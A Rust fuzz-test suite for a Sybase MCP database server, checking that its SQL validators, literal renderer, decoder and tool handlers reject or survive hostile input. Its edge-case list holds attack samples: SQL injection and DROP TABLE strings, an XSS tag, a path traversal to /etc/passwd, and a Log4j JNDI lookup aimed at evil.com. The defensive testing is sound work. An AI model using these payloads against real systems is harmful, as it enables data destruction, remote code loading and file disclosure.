//! Black-box fuzzing tests for the Sybase MCP Server.
//!
//! This test suite feeds random, malicious, and edge-case inputs to the
//! validators, the output decoder and the literal renderer, checking that
//! nothing panics and that accepted input always satisfies the rules.

use rand::Rng;
use rand::distributions::Alphanumeric;
use std::sync::Arc;
use sybase_mcp_server::db::params::{procedure_call, to_literal};
use sybase_mcp_server::db::tabular::{decode, decode_str};
use sybase_mcp_server::db::{ClientCommand, QueryExecutor};
use sybase_mcp_server::models::ConnectionParameters;
use sybase_mcp_server::tools::sql_validator::{
    FORBIDDEN_KEYWORDS, validate_procedure_name, validate_select, validate_table_name,
};
use sybase_mcp_server::tools::{
    ExecuteQueryInput, ProcedureToolHandler, QueryToolHandler, SchemaToolHandler,
    StoredProcedureInput, TableDefinitionInput,
};

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Random text drawn from characters that matter to the parsers.
fn random_noisy_string(len: usize) -> String {
    const ALPHABET: &[char] = &[
        'a', 'S', 'e', 'l', 'c', 't', '0', '9', '_', '.', '#', ' ', '\t', '\n', '\r', '\'', ';',
        '-', 'é', '\u{0}', '💥',
    ];
    let mut rng = rand::thread_rng();
    (0..len)
        .map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())])
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),                           // Empty
        " ".to_string(),                         // Single space
        "   ".to_string(),                       // Multiple spaces
        "\n\r\t".to_string(),                    // Whitespace chars
        "\0".to_string(),                        // Null byte
        "🚀".repeat(100),                        // Unicode
        "'OR 1=1--".to_string(),                 // SQL injection
        "'; DROP TABLE users--".to_string(),     // SQL injection
        "SELECT 1; DROP TABLE users".to_string(),
        "SELECT/**/1".to_string(),
        "select\u{0}1".to_string(),
        "ſelect 1".to_string(),                  // Long s folds oddly
        "İNSERT".to_string(),                    // Dotted capital I
        "<script>alert(1)</script>".to_string(), // XSS
        "../../etc/passwd".to_string(),          // Path traversal
        "a".repeat(10000),                       // Very long string
        format!("select {}", "x".repeat(1_000_000)),
        random_string(100),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(), // Special unicode
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(), // Log4j style
        "{{7*7}}".to_string(),                   // Template injection
        "\x00\x01\x02".to_string(),              // Binary data
        "NaN".to_string(),
        "inf".to_string(),
        "-0".to_string(),
        "1e308".to_string(),
        "1e309".to_string(),
        "0x1F".to_string(),
        " 42 ".to_string(),
        "\u{FEFF}SELECT 1".to_string(), // Byte order mark
    ]
}

fn all_inputs() -> Vec<String> {
    let mut inputs = edge_case_strings();
    for len in [1, 8, 64, 512] {
        for _ in 0..25 {
            inputs.push(random_noisy_string(len));
        }
    }
    inputs
}

#[test]
fn fuzz_validate_select_invariants() {
    for sql in all_inputs() {
        if let Ok(statement) = validate_select(&sql) {
            let folded = sql
                .trim_matches(|c: char| c.is_whitespace() || c == '\u{FEFF}')
                .to_lowercase();
            assert!(folded.starts_with("select"), "{sql:?}");
            for keyword in FORBIDDEN_KEYWORDS {
                assert!(!folded.contains(keyword), "{sql:?} contains {keyword}");
            }
            assert_eq!(statement.as_str(), sql);
        }
    }
}

#[test]
fn fuzz_denylisted_keyword_always_rejected() {
    let mut rng = rand::thread_rng();
    for _ in 0..200 {
        let keyword = FORBIDDEN_KEYWORDS[rng.gen_range(0..FORBIDDEN_KEYWORDS.len())];
        let keyword: String = keyword
            .chars()
            .map(|c| {
                if rng.gen_bool(0.5) {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect();
        let sql = format!(
            "SELECT {} {} {}",
            random_string(rng.gen_range(0..20)),
            keyword,
            random_string(rng.gen_range(0..20))
        );
        assert!(validate_select(&sql).is_err(), "{sql:?}");
    }
}

#[test]
fn fuzz_identifier_validators() {
    for name in all_inputs() {
        if validate_table_name(&name).is_ok() {
            assert!(!name.is_empty());
            assert!(
                name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'),
                "{name:?}"
            );
        }
        if validate_procedure_name(&name).is_ok() {
            assert!(name.split('.').count() <= 3, "{name:?}");
            assert!(!name.contains(' ') && !name.contains('\''), "{name:?}");
        }
    }

    for _ in 0..100 {
        let name = random_string(rand::thread_rng().gen_range(1..64));
        assert!(validate_table_name(&name).is_ok(), "{name:?}");
    }
}

#[test]
fn fuzz_literals_are_well_formed() {
    for param in all_inputs() {
        let literal = to_literal(&param);
        if literal.starts_with('\'') {
            assert!(literal.len() >= 2 && literal.ends_with('\''), "{param:?}");
            let inner = &literal[1..literal.len() - 1];
            assert!(
                !inner.replace("''", "").contains('\''),
                "unescaped quote in {literal:?}"
            );
        } else {
            let value: f64 = literal.parse().expect("bare literal is numeric");
            assert!(value.is_finite());
            assert_eq!(literal, param.trim());
        }
    }
}

#[test]
fn fuzz_procedure_call_never_panics() {
    let inputs = all_inputs();
    let params: Vec<String> = inputs.iter().take(20).cloned().collect();
    for name in inputs.iter().take(40) {
        let statement = procedure_call(name, &params);
        assert!(statement.as_str().starts_with("EXEC "));
    }
}

#[test]
fn fuzz_decoder_never_panics() {
    for text in all_inputs() {
        let records = decode_str(&text);
        let lines = text.trim().lines().count();
        assert!(records.len() <= lines.saturating_sub(1), "{text:?}");
    }

    let mut rng = rand::thread_rng();
    for _ in 0..100 {
        let bytes: Vec<u8> = (0..rng.gen_range(0..256))
            .map(|_| rng.gen_range(0..=u8::MAX))
            .collect();
        let _ = decode(&bytes);
    }
}

#[test]
fn fuzz_decoder_recovers_random_tables() {
    let mut rng = rand::thread_rng();
    for _ in 0..50 {
        let columns = rng.gen_range(1..8);
        let rows = rng.gen_range(0..20);
        let header: Vec<String> = (0..columns).map(|i| format!("c{}", i)).collect();
        let table: Vec<Vec<String>> = (0..rows)
            .map(|_| {
                (0..columns)
                    .map(|_| random_string(rng.gen_range(1..12)))
                    .collect()
            })
            .collect();

        let mut text = header.join("\t");
        for row in &table {
            text.push('\n');
            text.push_str(&row.join("\t"));
        }

        let records = decode_str(&text);
        assert_eq!(records.len(), rows);
        for (record, row) in records.iter().zip(&table) {
            let keys: Vec<&String> = record.keys().collect();
            assert_eq!(keys, header.iter().collect::<Vec<_>>());
            for (field, value) in header.iter().zip(row) {
                assert_eq!(record[field.as_str()], value.as_str());
            }
        }
    }
}

/// Handlers reject or fail cleanly on hostile input; the client binary does
/// not exist, so anything that gets past validation fails at launch.
#[tokio::test]
async fn fuzz_tool_handlers() {
    let executor = Arc::new(QueryExecutor::new(
        ConnectionParameters::new("localhost", 5000, "db", "user", "pass"),
        ClientCommand::new("definitely-not-a-real-db-client-binary"),
    ));
    let query = QueryToolHandler::new(executor.clone());
    let schema = SchemaToolHandler::new(executor.clone());
    let procedure = ProcedureToolHandler::new(executor.clone()).with_strict_names(true);

    for input in edge_case_strings().into_iter().take(25) {
        let result = query
            .execute_query(ExecuteQueryInput { sql: input.clone() })
            .await;
        assert!(result.is_err());

        let result = schema
            .table_definition(TableDefinitionInput {
                table_name: input.clone(),
            })
            .await;
        assert!(result.is_err());

        let result = procedure
            .execute_stored_procedure(StoredProcedureInput {
                procedure_name: input.clone(),
                params: Some(vec![input]),
            })
            .await;
        assert!(result.is_err());
    }
}
